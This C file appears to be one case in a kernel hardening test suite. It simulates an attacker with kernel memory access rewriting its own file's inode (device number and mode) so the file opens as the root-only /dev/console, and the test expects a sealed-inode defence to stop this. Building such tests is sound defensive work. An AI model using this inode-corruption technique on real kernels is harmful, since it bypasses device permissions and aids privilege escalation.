// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("cred_integrity", "own_device", "LOST",
       "The program turns a file of its own into a node of a device that only root may open.",
       "What kind of file an inode is, and of which device, is read from its sealed record.",
       "The program has the machine's console.");

#define CONSOLE "/dev/console"
#define CONSOLE_NUMBER 0x501
#define GET_SETTINGS 0x5401 /* TCGETS: only terminals know it */

static bool control(void)
{
	return is_ordinary() && call3(__NR_open, (long)CONSOLE, O_RDWR, 0) == -EACCES;
}

static bool fire(void)
{
	const long mine = call3(__NR_open, (long)"/tmp/mine", O_CREAT | O_RDWR, 0666);
	const uint64_t inode = peek(file_struct(own_task(), (int)mine) + member("file.inode"));
	char settings[256];
	long file;

	poke(inode + member("inode.device"), CONSOLE_NUMBER);
	poke32(inode + member("inode.mode"), 0020666);
	file = call3(__NR_open, (long)"/tmp/mine", O_RDWR | O_NOCTTY, 0);
	poke32(inode + member("inode.mode"), 0100666);
	return file >= 0 && call3(__NR_ioctl, file, GET_SETTINGS, (long)settings) == 0;
}

static void victim(void)
{
	victim_waits();
}
